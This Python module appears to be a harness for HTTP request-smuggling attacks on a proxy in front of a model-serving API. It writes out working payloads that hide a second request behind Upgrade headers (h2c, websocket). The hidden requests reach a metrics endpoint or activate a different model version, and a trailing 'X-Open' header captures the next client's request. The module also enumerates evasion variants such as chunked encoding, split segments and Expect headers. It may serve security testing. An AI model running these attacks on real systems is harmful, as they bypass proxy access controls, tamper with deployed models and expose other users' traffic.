"""A client of a proxy that hides a second request in the body of one that offers an upgrade.

A server that parses the body as the next request leaves the hidden request incomplete: the next
request that the proxy sends on that connection, from another client, becomes the value of X-Open.
"""

import socket
import time
from collections.abc import Iterator
from contextlib import suppress
from itertools import product
from typing import NamedTuple

UPGRADES = {
    "unknown": ["Connection: Upgrade", "Upgrade: anything"],
    "h2c": [
        "Connection: Upgrade, HTTP2-Settings",
        "Upgrade: h2c",
        "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA",
    ],
    "websocket": [
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
    ],
}
HIDDEN = (
    b"GET /metrics HTTP/1.1\r\nX-Open: ",
    b"POST /v1/models/digits/versions/2/activate HTTP/1.1\r\nX-Open: ",
)
TARGETS = (
    "/v1/predict",
    "/livez",
    "/v1/models/digits/versions/1/predict",
    "/v2/models/digits/infer",
    "/no/such/route",
)
ANSWER = b"x-request-id: "  # a header that the service adds to every response, and no proxy does
LARGE = 140_000  # bytes before the hidden request: more than arrives at once
PAUSE = 0.02  # seconds between two TCP segments
SILENCE = 3.0  # seconds of silence after which the proxy has sent all of its responses


class Attack(NamedTuple):
    upgrade: str  # a key of UPGRADES
    target: str
    hidden: bytes
    large: bool
    split: bool  # whether the body is sent in separate segments
    chunked: bool
    expect: bool

    def segments(self) -> list[bytes]:
        body = b"\r\n" * (LARGE // 2 if self.large else 1) + self.hidden
        if self.chunked:
            length, body = (
                "Transfer-Encoding: chunked",
                b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body),
            )
        else:
            length = f"Content-Length: {len(body)}"
        lines = [f"POST {self.target} HTTP/1.1", "Host: x", *UPGRADES[self.upgrade], length]
        if self.expect:
            lines.append("Expect: 100-continue")
        head = "\r\n".join([*lines, "", ""]).encode()
        middle = len(body) // 2
        return [head, body[:middle], body[middle:]] if self.split else [head + body]

    def send(self, connection: socket.socket) -> bytes:
        """The first response: that of the service, unless the proxy rejects the request."""
        connection.settimeout(SILENCE)
        with suppress(OSError):  # the proxy may reject it and close before all is sent
            for segment in self.segments():
                connection.sendall(segment)
                if self.split:
                    time.sleep(PAUSE)
        return _received(connection, until=ANSWER)


def send_behind(connection: socket.socket) -> bytes:
    """Everything returned for an ordinary request after an attack on the same connection."""
    with suppress(OSError):
        connection.sendall(b"GET /livez HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    return _received(connection)


def _received(connection: socket.socket, until: bytes | None = None) -> bytes:
    """Until `until`, the end of the connection or a timeout."""
    received = b""
    with suppress(OSError):
        while until is None or until not in received.lower():
            piece = connection.recv(65536)
            if not piece:
                break
            received += piece
    return received


def attacks(upgrade: str) -> Iterator[Attack]:
    """All kinds of attack with this upgrade, each on another route."""
    yes_or_no = (False, True)
    shapes = product(HIDDEN, yes_or_no, yes_or_no, yes_or_no, yes_or_no)
    for number, shape in enumerate(shapes):
        yield Attack(upgrade, TARGETS[number % len(TARGETS)], *shape)
